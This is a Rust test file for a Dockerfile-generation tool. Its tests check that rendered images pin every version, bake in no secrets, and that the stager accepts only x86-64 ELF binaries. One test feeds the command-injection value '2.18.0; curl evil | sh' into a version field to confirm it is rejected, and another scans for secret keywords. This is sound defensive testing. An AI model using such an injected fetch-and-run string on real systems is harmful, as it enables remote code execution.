//! Snapshot tests of every rendered Dockerfile and generated file, and the checks that every
//! version is pinned and no secret is baked in.

use std::path::Path;

use super::*;
use crate::dockerfile::{
    Instruction, VariableKind, looks_like_secret_name, looks_like_secret_value,
};

#[test]
fn training_dockerfile() {
    insta::assert_snapshot!(TrainingImage::default().dockerfile().unwrap().render());
}

#[test]
fn tensorboard_dockerfile_and_files() {
    insta::assert_snapshot!(
        "tensorboard_dockerfile",
        TensorboardImage::default().dockerfile().unwrap().render()
    );
    insta::assert_snapshot!("tensorboard_nginx_conf", tensorboard::nginx_conf());
    insta::assert_snapshot!("tensorboard_entrypoint", tensorboard::entrypoint());
}

#[test]
fn stager_dockerfile() {
    insta::assert_snapshot!(
        StagerImage::new("trnkit-stage")
            .dockerfile()
            .unwrap()
            .render()
    );
}

#[test]
fn no_rendered_dockerfile_holds_a_secret() {
    for (name, dockerfile) in default_dockerfiles().unwrap() {
        for (kind, variable, value) in dockerfile.variables() {
            assert!(
                !looks_like_secret_name(variable),
                "{name}: {kind:?} {variable}"
            );
            assert!(
                !value.is_some_and(looks_like_secret_value),
                "{name}: {variable}={value:?}"
            );
        }
        let text = dockerfile.render().to_ascii_lowercase();
        for word in ["password", "htpasswd -c", "token=", "secret="] {
            assert!(!text.contains(word), "{name} mentions {word:?}");
        }
    }
    let definition = TensorboardImage::default().definition().unwrap();
    for file in &definition.files {
        let crate::context::FileSource::Bytes(bytes) = &file.source else {
            panic!("generated")
        };
        let text = String::from_utf8_lossy(bytes);
        assert!(
            !text.contains("htpasswd -c") && !text.contains("admin:"),
            "{}",
            file.path
        );
        assert!(
            text.contains(TENSORBOARD_HTPASSWD_DIR),
            "{} reads the mounted Secret",
            file.path
        );
    }
}

#[test]
fn every_version_is_pinned() {
    for (name, dockerfile) in default_dockerfiles().unwrap() {
        // Every ARG has a default, and the base image is pinned by digest.
        for (kind, variable, value) in dockerfile.variables() {
            if kind == VariableKind::Arg {
                let value =
                    value.unwrap_or_else(|| panic!("{name}: ARG {variable} has no default"));
                assert!(!value.contains("latest"), "{name}: {variable}={value}");
            }
            if variable == "BASE_IMAGE" {
                assert!(
                    value.unwrap().contains("@sha256:"),
                    "{name}: base image not pinned"
                );
            }
        }
        for instruction in dockerfile.instructions() {
            if let Instruction::From { image, .. } = instruction {
                assert_eq!(image, "${BASE_IMAGE}", "{name}");
            }
            let Instruction::Run(commands) = instruction else {
                continue;
            };
            for command in commands {
                // Quoted package specs carry an exact version (`"name==1.2"`, `"name=1.2*"`).
                for spec in command.split('"').skip(1).step_by(2) {
                    let installs =
                        command.contains("pip install") || command.contains("apt-get install");
                    if installs && !spec.contains(' ') && !spec.starts_with('$') {
                        assert!(spec.contains('='), "{name}: unpinned {spec:?} in {command}");
                    }
                }
                assert!(!command.contains("latest"), "{name}: {command}");
            }
        }
    }
    let training = TrainingImage::default().dockerfile().unwrap().render();
    assert!(
        training.contains("NEURONX_NEMO_MEGATRON_COMMIT=f4743cef5a1c8dc9eeb6b3d128e01693e041a9be")
    );
    assert!(training.contains("git fetch -q --depth 1 origin ${NEURONX_NEMO_MEGATRON_COMMIT}"));
}

#[test]
fn rejects_unpinned_or_unsafe_values() {
    let mut image = TrainingImage::default();
    image.neuronx_nemo_megatron.commit = "f4743ce".to_owned();
    let error = image.dockerfile().unwrap_err();
    assert!(
        error.to_string().contains("full 40-digit commit"),
        "{error}"
    );

    let image = TrainingImage {
        base_image: "public.ecr.aws/lts/ubuntu:22.04_stable".to_owned(),
        ..TrainingImage::default()
    };
    assert!(
        image
            .dockerfile()
            .unwrap_err()
            .to_string()
            .contains("pin the base image by digest")
    );

    let image = TensorboardImage {
        tensorboard_version: "2.18.0; curl evil | sh".to_owned(),
        ..TensorboardImage::default()
    };
    let error = image.dockerfile().unwrap_err();
    assert!(
        matches!(&error, crate::Error::InvalidParameter { parameter, .. } if parameter == "tensorboard_version"),
        "{error}"
    );
}

fn elf_header(machine: u16) -> Vec<u8> {
    let mut header = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0];
    header.resize(16, 0);
    header.extend_from_slice(&2u16.to_le_bytes());
    header.extend_from_slice(&machine.to_le_bytes());
    header.resize(64, 0);
    header
}

#[test]
fn the_stager_takes_only_a_linux_x86_64_binary() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| {
        let path = dir.path().join(name);
        fs_err::write(&path, bytes).unwrap();
        path
    };
    let good = write("good", &elf_header(0x3e));
    let definition = StagerImage::new(&good).definition().unwrap();
    let context = definition.context().unwrap();
    assert_eq!(
        context.paths().collect::<Vec<_>>(),
        ["Dockerfile", STAGE_BINARY_NAME]
    );

    for (name, bytes, reason) in [
        ("arm", elf_header(0xb7), "x86-64"),
        (
            "script",
            b"#!/bin/sh\necho this is a shell script\n".to_vec(),
            "not an ELF",
        ),
        ("tiny", b"\x7fELF".to_vec(), "too short"),
    ] {
        let path = write(name, &bytes);
        let error = StagerImage::new(&path).definition().unwrap_err();
        assert!(error.to_string().contains(reason), "{name}: {error}");
    }
    let error = StagerImage::new(Path::new("/nonexistent/trnkit-stage"))
        .definition()
        .unwrap_err();
    assert!(
        error.to_string().contains("/nonexistent/trnkit-stage"),
        "{error}"
    );
}
